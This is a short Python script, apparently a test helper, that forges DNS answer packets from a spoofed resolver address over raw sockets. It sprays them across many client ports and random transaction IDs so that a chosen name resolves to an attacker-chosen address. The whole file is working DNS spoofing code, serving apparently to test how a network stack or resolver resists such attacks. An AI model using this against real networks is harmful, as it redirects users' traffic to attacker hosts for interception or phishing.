#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only
"""Forged DNS answers, as an attacker on the client's network sends them: UDP from a
resolver's address and port 53 to the client, on many ports and IDs, answering a question
nobody asked (or one somebody did) with an address of the attacker's choosing. Raw IPv4
socket (IP_HDRINCL), so the source address is whatever the test says.

usage: dns_spoof.py SRC DST NAME ADDR [--ports FIRST:COUNT] [--ids N]
Prints the number of packets sent."""
import argparse
import random
import socket
import struct


def answer(qid, name, addr):
    hdr = struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 0)
    q = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    q += struct.pack("!HH", 1, 1)
    rr = struct.pack("!HHHIH", 0xC00C, 1, 1, 3600, 4) + socket.inet_aton(addr)
    return hdr + q + rr


def packet(src, dst, sport, dport, payload):
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload  # no checksum
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.getrandbits(16), 0,
                     64, socket.IPPROTO_UDP, 0, socket.inet_aton(src), socket.inet_aton(dst))
    csum = sum(struct.unpack("!10H", ip))
    csum = (csum & 0xFFFF) + (csum >> 16)
    csum = ~((csum & 0xFFFF) + (csum >> 16)) & 0xFFFF
    return ip[:10] + struct.pack("!H", csum) + ip[12:] + udp


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("src")
    ap.add_argument("dst")
    ap.add_argument("name")
    ap.add_argument("addr")
    ap.add_argument("--ports", default="32768:512")
    ap.add_argument("--ids", type=int, default=4)
    a = ap.parse_args()
    first, count = (int(x) for x in a.ports.split(":"))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    for port in range(first, first + count):
        for _ in range(a.ids):
            s.sendto(packet(a.src, a.dst, 53, port, answer(random.getrandbits(16), a.name, a.addr)),
                     (a.dst, 0))
            sent += 1
    print(sent)


if __name__ == "__main__":
    main()
